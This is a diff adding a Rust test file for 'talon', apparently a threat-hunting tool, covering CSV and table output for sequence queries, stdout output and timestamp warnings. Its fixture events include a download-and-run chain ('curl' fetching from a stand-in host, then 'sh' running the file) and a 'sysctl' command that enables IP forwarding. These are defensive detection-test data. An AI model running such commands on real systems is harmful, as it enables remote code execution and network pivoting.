@@ -1,0 +1,379 @@
+//! Regressions from a fresh user's report: CSV and table output for
+//! sequence and sample queries, `--output -` as stdout, the prefix of
+//! every warning and error line, and where the events whose timestamp
+//! cannot be used are.
+
+mod common;
+
+use std::path::Path;
+
+use common::*;
+
+const FORWARDING: &str = "rules/linux/command_and_control_ip_forwarding_enabled.toml";
+
+fn scratch() -> tempfile::TempDir {
+    tempfile::tempdir().expect("tempdir")
+}
+
+/// Five events on two hosts: on h1 a download, a connection and a run of
+/// what was downloaded; on h2 a listing and a connection.
+const EVENTS: &str = "\
+{\"@timestamp\":\"2026-01-01T00:00:01Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"curl\",\"command_line\":\"curl -o /tmp/x http://e.test/x\"}}
+{\"@timestamp\":\"2026-01-01T00:00:02Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h2\",\"name\":\"beta\"},\"user\":{\"name\":\"bob\"},\"process\":{\"name\":\"ls\",\"command_line\":\"ls -l\"}}
+{\"@timestamp\":\"2026-01-01T00:00:03Z\",\"event\":{\"category\":\"network\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"curl\"}}
+{\"@timestamp\":\"2026-01-01T00:00:04Z\",\"event\":{\"category\":\"process\"},\"host\":{\"id\":\"h1\",\"name\":\"alpha\"},\"user\":{\"name\":\"root\"},\"process\":{\"name\":\"sh\",\"command_line\":\"sh /tmp/x\"}}
+{\"@timestamp\":\"2026-01-01T00:00:05Z\",\"event\":{\"category\":\"network\"},\"host\":{\"id\":\"h2\",\"name\":\"beta\"},\"user\":{\"name\":\"bob\"},\"process\":{\"name\":\"ssh\"}}
+";
+
+/// `talon query QUERY events.ndjson ARGS` in `dir`, which must succeed;
+/// its stdout.
+fn query(dir: &Path, eql: &str, args: &[&str]) -> String {
+    let mut c = talon();
+    c.current_dir(dir)
+        .args(["query", eql, "events.ndjson"])
+        .args(args);
+    let out = run(c);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    stdout(&out)
+}
+
+#[test]
+fn sequences_and_samples_are_written_as_csv_one_row_per_event() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let header = "@timestamp,event.category,host.name,user.name,process.name,\
+                  process.command_line,source";
+
+    let csv = query(
+        d,
+        "sequence by host.id [process where process.name == \"curl\"] [process where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sequence,join_keys,{header}\n\
+             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,h1,2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+        )
+    );
+
+    // Two join keys share a cell; a missing event is a row of its own.
+    let csv = query(
+        d,
+        "sequence by host.id, user.name with maxspan=1m \
+         [process where process.name == \"curl\"] ![file where true] [process where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sequence,join_keys,{header}\n\
+             1,\"h1, root\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,\"h1, root\",,,,,,,(missing event)\n\
+             1,\"h1, root\",2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+        )
+    );
+
+    let csv = query(
+        d,
+        "sample by host.id [process where true] [network where true]",
+        &["--format", "csv"],
+    );
+    assert_eq!(
+        csv,
+        format!(
+            "sample,join_keys,{header}\n\
+             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,h1,2026-01-01T00:00:03.000Z,network,alpha,root,curl,,events.ndjson:3\n\
+             2,h2,2026-01-01T00:00:02.000Z,process,beta,bob,ls,ls -l,events.ndjson:2\n\
+             2,h2,2026-01-01T00:00:05.000Z,network,beta,bob,ssh,,events.ndjson:5\n"
+        )
+    );
+}
+
+#[test]
+fn sequences_and_samples_are_written_as_a_table_one_row_per_event() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let table = query(
+        d,
+        "sample by host.id [process where true] [network where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(
+        table,
+        "SAMPLE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         1       h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1       h1         2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
+         2       h2         2026-01-01T00:00:02.000Z  process    beta             bob        ls -l\n\
+         2       h2         2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
+    );
+    let table = query(
+        d,
+        "sequence by host.id [process where process.name == \"curl\"] [process where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(
+        table,
+        "SEQUENCE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         1         h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1         h1         2026-01-01T00:00:04.000Z  process    alpha            root       sh /tmp/x\n"
+    );
+    let table = query(
+        d,
+        "sequence [process where false] [process where true]",
+        &["--format", "table"],
+    );
+    assert_eq!(table, "(no matching sequences)\n");
+    // An event search's table is as it was.
+    let table = query(d, "network where true", &["--format", "table"]);
+    assert_eq!(
+        table,
+        "TIME                      CATEGORY   HOST             USER       COMMAND\n\
+         2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
+         2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
+    );
+}
+
+#[test]
+fn output_dash_is_stdout_for_every_command_that_takes_output() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let demo = repo().join("demo/events.ndjson");
+    let rule = repo().join(FORWARDING);
+    let (demo, rule) = (demo.to_str().unwrap(), rule.to_str().unwrap());
+    let commands: [&[&str]; 5] = [
+        &["hunt", "--rules", rule, demo, "--format", "csv"],
+        &[
+            "query",
+            "process where true",
+            "events.ndjson",
+            "--format",
+            "csv",
+        ],
+        &[
+            "query",
+            "sequence by host.id [process where true] [any where true]",
+            "events.ndjson",
+        ],
+        &["convert", "events.ndjson"],
+        &["synth", rule],
+    ];
+    for args in commands {
+        let mut plain = talon();
+        plain.current_dir(d).args(args);
+        let plain = run(plain);
+        assert_eq!(plain.status.code(), Some(0), "{args:?}: {}", stderr(&plain));
+        assert!(!plain.stdout.is_empty(), "{args:?}");
+        let mut dash = talon();
+        dash.current_dir(d).args(args).args(["--output", "-"]);
+        let dash = run(dash);
+        assert_eq!(dash.status.code(), Some(0), "{args:?}: {}", stderr(&dash));
+        assert_eq!(stdout(&dash), stdout(&plain), "{args:?}");
+        assert!(!d.join("-").exists(), "{args:?} created a file named -");
+    }
+    // convert's summary says where the events went.
+    let mut c = talon();
+    c.current_dir(d)
+        .args(["convert", "events.ndjson", "-o", "-"]);
+    let err = stderr(&run(c));
+    assert!(err.contains("talon: wrote 5 events to stdout\n"), "{err}");
+    // watch cannot write alerts and events both to stdout (refused before
+    // it needs root).
+    let mut c = talon();
+    c.current_dir(d).args([
+        "watch",
+        "--rules",
+        rule,
+        "--output",
+        "-",
+        "--all-events",
+        "-",
+    ]);
+    let out = run(c);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(
+        stderr(&out),
+        "talon: error: --all-events - writes events to stdout; give alerts a file with \
+         --output FILE\n"
+    );
+    assert!(!d.join("-").exists());
+}
+
+#[test]
+fn warnings_about_inputs_given_twice_are_headed_like_every_other() {
+    let dir = scratch();
+    let d = dir.path();
+    std::fs::write(d.join("events.ndjson"), EVENTS).unwrap();
+    let mut c = talon();
+    c.current_dir(d).args([
+        "query",
+        "any where true",
+        "events.ndjson",
+        "events.ndjson",
+        "-",
+        "-",
+    ]);
+    let out = run_with_stdin(c, b"");
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(0), "{err}");
+    let lines: Vec<&str> = err.lines().collect();
+    assert_eq!(
+        lines[..2],
+        [
+            "talon: warning: events.ndjson was given more than once; it is read once",
+            "talon: warning: - (stdin) was given more than once; it is read once",
+        ],
+        "{err}"
+    );
+}
+
+#[test]
+fn every_bad_line_of_an_exceptions_file_is_an_error_line() {
+    let dir = scratch();
+    let d = dir.path();
+    let item = |id: &str, kind: &str| {
+        format!(
+            "{{\"list_id\":\"l\",\"item_id\":\"{id}\",\"entries\":[{{\"field\":\"a\",\
+             \"type\":\"{kind}\",\"operator\":\"included\",\"value\":\"x\"}}]}}"
+        )
+    };
+    let text = format!(
+        "{{\"list_id\":\"l\",\"type\":\"detection\"}}\n{}\n{}\n{{\"list_id\":\n",
+        item("i1", "bogus"),
+        item("i2", "match")
+    );
+    std::fs::write(d.join("exc.ndjson"), text).unwrap();
+    let mut c = talon();
+    c.current_dir(d)
+        .args(["hunt", "--exceptions", "exc.ndjson"])
+        .arg(repo().join("demo/events.ndjson"));
+    let out = run(c);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(
+        stderr(&out),
+        "talon: error: exc.ndjson:2:63: exception item `i1`: entry on `a`: unknown type \
+         `bogus` (expected match, match_any, wildcard, exists, list or nested)\n  |\n\
+         2 | {\"list_id\":\"l\",\"item_id\":\"i1\",\"entries\":[{\"field\":\"a\",\"type\":\"bogus\",\
+         \"operator\":\"included\",\"value\":\"x\"}]}\n  \
+         |                                                               ^^^^^\n\
+         talon: error: exc.ndjson:4:12: invalid JSON: EOF while parsing a value\n  |\n\
+         4 | {\"list_id\":\n  |            ^\n"
+    );
+    assert!(out.stdout.is_empty());
+}
+
+/// A `sysctl -w` the forwarding rule alerts on, with `timestamp` (the
+/// `"@timestamp":...,` member, or nothing) first.
+fn sysctl(timestamp: &str) -> String {
+    format!(
+        r#"{{{timestamp}"event":{{"category":"process","type":"start","action":"exec"}},"host":{{"os":{{"type":"linux"}}}},"process":{{"name":"sysctl","args":["sysctl","-w","net.ipv4.ip_forward=1"],"command_line":"sysctl -w net.ipv4.ip_forward=1","parent":{{"executable":"/bin/bash","name":"bash"}}}},"data_stream":{{"type":"logs","dataset":"endpoint.events.process","namespace":"default"}}}}"#
+    ) + "\n"
+}
+
+/// The summary's lines after the first (whose timing varies).
+fn summary_lines(out: &std::process::Output) -> Vec<String> {
+    stderr(out).lines().skip(1).map(str::to_string).collect()
+}
+
+#[test]
+fn events_whose_timestamp_cannot_be_used_are_named_by_file_and_line() {
+    let dir = scratch();
+    let d = dir.path();
+    let events: String = [
+        r#""@timestamp":"2026-01-01T00:00:00Z","#,
+        r#""@timestamp":"garbage","#,
+        r#""@timestamp":"2026-13-45T99:99:99Z","#,
+        r#""@timestamp":true,"#,
+        r#""@timestamp":{"a":1},"#,
+        r#""@timestamp":-1e300,"#,
+        r#""@timestamp":"99999-01-01T00:00:00Z","#,
+        // Null is no value, as Elasticsearch indexes it: missing.
+        r#""@timestamp":null,"#,
+        "",
+    ]
+    .map(sysctl)
+    .concat();
+    std::fs::write(d.join("bad.ndjson"), events).unwrap();
+    let rule = repo().join(FORWARDING);
+    let talon_in = |args: &[&str]| {
+        let mut c = talon();
+        c.current_dir(d).args(args);
+        run(c)
+    };
+
+    // Which events match and how they sort is unchanged: the one dated
+    // first, the others after it in input order.
+    let out = talon_in(&[
+        "query",
+        "process where process.name == \"sysctl\"",
+        "bad.ndjson",
+        "--format",
+        "csv",
+    ]);
+    let sources: Vec<String> = stdout(&out)
+        .lines()
+        .skip(1)
+        .map(|l| l.rsplit(',').next().unwrap().to_string())
+        .collect();
+    assert_eq!(
+        sources,
+        (1..=9)
+            .map(|i| format!("bad.ndjson:{i}"))
+            .collect::<Vec<_>>()
+    );
+    assert_eq!(
+        summary_lines(&out),
+        [
+            "talon: 9 events matched, 9 returned (--size 10)",
+            "talon: 6 matched events have an unusable `@timestamp` (first: bad.ndjson:2: \
+             \"garbage\") and sort last",
+            "talon: 2 matched events have no `@timestamp` (first: bad.ndjson:8) and sort last",
+        ]
+    );
+
+    for format in ["jsonl", "csv"] {
+        for threads in ["1", "2"] {
+            let mut args = vec!["hunt", "--rules", rule.to_str().unwrap(), "bad.ndjson"];
+            args.extend(["--format", format, "--threads", threads]);
+            let out = talon_in(&args);
+            assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+            assert_eq!(
+                summary_lines(&out),
+                [
+                    "talon: 9 events matched, 9 alerts by 1 of 1 rule",
+                    "talon: 6 matched events have an unusable `@timestamp` (first: bad.ndjson:2: \
+                     \"garbage\"): their alerts have no kibana.alert.original_time",
+                    "talon: 2 matched events have no `@timestamp` (first: bad.ndjson:8): their \
+                     alerts have no kibana.alert.original_time",
+                    "talon:        9  IPv4/IPv6 Forwarding Switched On via sysctl or procfs [low]",
+                ],
+                "--format {format} --threads {threads}"
+            );
+        }
+    }
+
+    let out = talon_in(&[
+        "hunt",
+        "--rules",
+        rule.to_str().unwrap(),
+        "bad.ndjson",
+        "--schedule",
+    ]);
+    let lines = summary_lines(&out);
+    assert_eq!(
+        lines[lines.len() - 2..],
+        [
+            "talon: schedule: 6 matches have an unusable timestamp (not alerted; first: \
+             bad.ndjson:2: `@timestamp` is \"garbage\")",
+            "talon: schedule: 2 matches have no timestamp (not alerted; first: bad.ndjson:8: \
+             no `@timestamp`)",
+        ],
+        "{}",
+        stderr(&out)
+    );
+}
